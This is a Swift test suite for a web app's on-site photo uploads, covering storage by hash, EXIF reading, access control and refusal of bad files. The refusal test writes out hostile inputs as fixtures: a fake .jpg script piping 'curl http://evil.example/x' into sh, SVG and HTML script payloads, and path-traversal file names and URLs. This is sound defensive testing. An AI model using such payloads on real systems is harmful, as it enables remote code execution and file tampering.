import Foundation
import Hummingbird
import HummingbirdTesting
import MuckWatchCore
import MuckWatchReview
import MuckWatchStore
import MuckWatchTestSupport
import Testing

@Suite("Review app: on-site photos (issue #26)")
struct PhotoUploadTests {
    /// A city_management case only.
    func cityCase(_ world: ReviewWorld) throws -> String {
        try world.caseRouted(to: "city_management", notTo: "traffic_police").caseID
    }

    /// Case `id` moved to dispatched by wang through the app, `b` logged in as wang.
    func dispatch(_ id: String, _ client: some TestClientProtocol, _ b: inout Browser) async throws {
        try await b.login(client, "wang")
        try await b.get(client, "/cases/\(id)")
        let r = try await b.post(client, "/cases/\(id)/status", ["to": "dispatched"])
        #expect(r.status == .seeOther)
        try await b.get(client, "/cases/\(id)")
    }

    @Test("Real JPEG, PNG and WebP photos are kept by their SHA-256 outside any served folder, EXIF time and GPS read and shown, audit rows written", arguments: StoreBackend.allCases)
    func accepted(backend: StoreBackend) async throws {
        let world = try await ReviewWorld.make(backend)
        defer { world.cleanup() }
        let jpeg = try ReviewWorld.fixture("roadside.jpg"), png = try ReviewWorld.fixture("heap.png")
        let webp = try ReviewWorld.fixture("verge.webp"), plain = try ReviewWorld.fixture("plain.jpg")
        let id = try cityCase(world)
        try await world.app().test(.router) { client in
            var b = Browser()
            try await dispatch(id, client, &b)
            let r = try await b.upload(client, "/cases/\(id)/photos", files: [("roadside.jpg", jpeg), ("heap.png", png)])
            #expect(r.status == .seeOther, "\(r.text.prefix(400))")
            let r2 = try await b.upload(client, "/cases/\(id)/photos", files: [("verge.webp", webp), ("IMG_0001.jpg", plain)])
            #expect(r2.status == .seeOther, "\(r2.text.prefix(400))")
            let page = try await b.get(client, "/cases/\(id)")
            #expect(page.text.contains("2026:11:21 08:15:30"))
            #expect(page.text.contains("30.80781"))  // 30° 48′ 28.12″ N, to six decimals
            #expect(page.text.contains(", 108.40823"))
            #expect(page.text.contains("(none in EXIF)"))  // plain.jpg
            // Served back to wang with its type, byte for byte.
            let sha = try world.store().photos(caseID: id)[0].facts.sha256
            let served = try await b.get(client, "/cases/\(id)/photos/\(sha)")
            #expect(served.status == .ok)
            #expect(served.headers[.contentType] == "image/jpeg")
            #expect(Array(buffer: served.body) == jpeg)
        }
        let photos = try world.store().photos(caseID: id)
        #expect(photos.map(\.facts.fileName) == ["roadside.jpg", "heap.png", "verge.webp", "IMG_0001.jpg"])
        #expect(photos.map(\.facts.mediaType) == ["image/jpeg", "image/png", "image/webp", "image/jpeg"])
        #expect(photos.map(\.facts.taken) == ["2026:11:21 08:15:30", "2026:11:21 08:20:05", "2026:11:21 08:25:45", nil])
        // Pillow wrote seconds to 1/100: the degrees agree to well under a metre.
        let expected: [(Double, Double)?] = [(30.807812, 108.408236), (30.8111, 108.4019), (30.79, 108.38), nil]
        for (p, e) in zip(photos, expected) {
            if let e {
                #expect(abs(p.facts.gpsLat! - e.0) < 2e-6 && abs(p.facts.gpsLon! - e.1) < 2e-6, "\(p.facts)")
            } else {
                #expect(p.facts.gpsLat == nil && p.facts.gpsLon == nil)
            }
            #expect(p.actor == "wang")
        }
        // Content-addressed files, in the folder beside the store and nowhere else.
        let files = try FileManager.default.contentsOfDirectory(atPath: world.photoFolder).sorted()
        #expect(files == photos.map(\.facts.sha256).sorted())
        let stored = try Data(contentsOf: URL(fileURLWithPath: world.photoFolder + "/" + photos[1].facts.sha256))
        #expect(Array(stored) == png)
        let audit = try world.store().events(caseID: id).filter { $0.action == "photo" }
        #expect(audit.count == 4)
        #expect(audit.allSatisfy { $0.actor == "wang" && $0.fromStatus == .dispatched })
        #expect(zip(audit, photos).allSatisfy { $0.note!.contains($1.facts.fileName) && $0.note!.contains($1.facts.sha256) })
    }

    @Test("A script renamed .jpg, an SVG, a zero-byte file, a 50 MB file and a path-traversal name are refused with a message naming what they are; nothing is kept", arguments: StoreBackend.allCases)
    func refused(backend: StoreBackend) async throws {
        let world = try await ReviewWorld.make(backend)
        defer { world.cleanup() }
        let jpeg = try ReviewWorld.fixture("roadside.jpg")
        var big = jpeg
        big += [UInt8](repeating: 0, count: 50 * 1024 * 1024 - jpeg.count)
        let cases: [(String, [UInt8], HTTPResponse.Status, String)] = [
            ("holiday.jpg", Array("#!/bin/sh\ncurl http://evil.example/x | sh\n".utf8), .unsupportedMediaType, "is a script"),
            ("map.jpg", Array(#"<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>"#.utf8),
             .unsupportedMediaType, "an SVG drawing"),
            ("empty.jpg", [], .unsupportedMediaType, "is empty (0 bytes)"),
            ("huge.jpg", big, .contentTooLarge, "a photo may be at most 10 MB"),
            ("../../etc/cron.d/x.jpg", jpeg, .badRequest, "is a path, not a file name"),
            ("..\\evil.jpg", jpeg, .badRequest, "is a path"),
            ("page.jpg", Array("<!doctype html><html><script>alert(1)</script></html>".utf8), .unsupportedMediaType, "HTML"),
        ]
        let id = try cityCase(world)
        try await world.app().test(.router) { client in
            var b = Browser()
            try await dispatch(id, client, &b)
            for (name, bytes, status, message) in cases {
                let r = try await b.upload(client, "/cases/\(id)/photos", files: [(name, bytes)])
                #expect(r.status == status, "\(name)")
                #expect(r.text.contains(message), "\(name): \(r.text.prefix(300))")
            }
            // One bad file refuses the whole upload, good files with it included.
            let mixed = try await b.upload(client, "/cases/\(id)/photos", files: [("ok.jpg", jpeg), ("bad.jpg", [])])
            #expect(mixed.status == .unsupportedMediaType)
            // Without the form's token nothing is read.
            let forged = try await b.upload(client, "/cases/\(id)/photos", files: [("ok.jpg", jpeg)], csrf: "forged")
            #expect(forged.status == .forbidden)
        }
        #expect(try world.store().photos(caseID: id).isEmpty)
        let kept = (try? FileManager.default.contentsOfDirectory(atPath: world.photoFolder)) ?? []
        #expect(kept.isEmpty)
        #expect(try world.store().events(caseID: id).filter { $0.action == "photo" }.isEmpty)
    }

    @Test("Another department's officer cannot fetch or add a photo; auditors cannot add; a case takes at most its limit", arguments: StoreBackend.allCases)
    func access(backend: StoreBackend) async throws {
        let world = try await ReviewWorld.make(backend)
        defer { world.cleanup() }
        let jpeg = try ReviewWorld.fixture("roadside.jpg"), png = try ReviewWorld.fixture("heap.png")
        let plain = try ReviewWorld.fixture("plain.jpg")
        let id = try cityCase(world)
        try await world.app { $0.maxPhotosPerCase = 2; $0.maxPhotoBytes = 1024 * 1024 }.test(.router) { client in
            var wang = Browser()
            try await dispatch(id, client, &wang)
            // Within one upload's size but over one photo's: refused by name and size.
            let large = try await wang.upload(client, "/cases/\(id)/photos",
                                              files: [("large.jpg", jpeg + [UInt8](repeating: 0, count: 1536 * 1024))])
            #expect(large.status == .contentTooLarge)
            #expect(large.text.contains("large.jpg is 1.5 MB; a photo may be at most 1.0 MB"), "\(large.text.prefix(300))")
            #expect(try await wang.upload(client, "/cases/\(id)/photos", files: [("a.jpg", jpeg), ("b.png", png)]).status == .seeOther)
            let third = try await wang.upload(client, "/cases/\(id)/photos", files: [("c.jpg", plain)])
            #expect(third.status == .badRequest)
            #expect(third.text.contains("at most 2 photos"))
            let sha = try world.store().photos(caseID: id)[0].facts.sha256

            var zhao = Browser()
            try await zhao.login(client, "zhao")
            let fetched = try await zhao.get(client, "/cases/\(id)/photos/\(sha)")
            #expect(fetched.status == .forbidden)
            #expect(!fetched.text.contains("JFIF"))
            let added = try await zhao.upload(client, "/cases/\(id)/photos", files: [("z.jpg", plain)])
            #expect(added.status == .forbidden)

            var chen = Browser()
            try await chen.login(client, "chen")
            #expect(try await chen.get(client, "/cases/\(id)/photos/\(sha)").status == .ok)  // auditors read every case
            #expect(try await chen.upload(client, "/cases/\(id)/photos", files: [("y.jpg", plain)]).status == .forbidden)
            // A hash this case does not have, or not a hash at all, is not found.
            #expect(try await wang.get(client, "/cases/\(id)/photos/\(String(repeating: "0", count: 64))").status == .notFound)
            #expect(try await wang.get(client, "/cases/\(id)/photos/..%2F..%2Fmuckwatch.sqlite").status == .notFound)
            // Logged out: the login page, never the bytes.
            var stranger = Browser()
            #expect(try await stranger.get(client, "/cases/\(id)/photos/\(sha)").status == .seeOther)
        }
    }
}
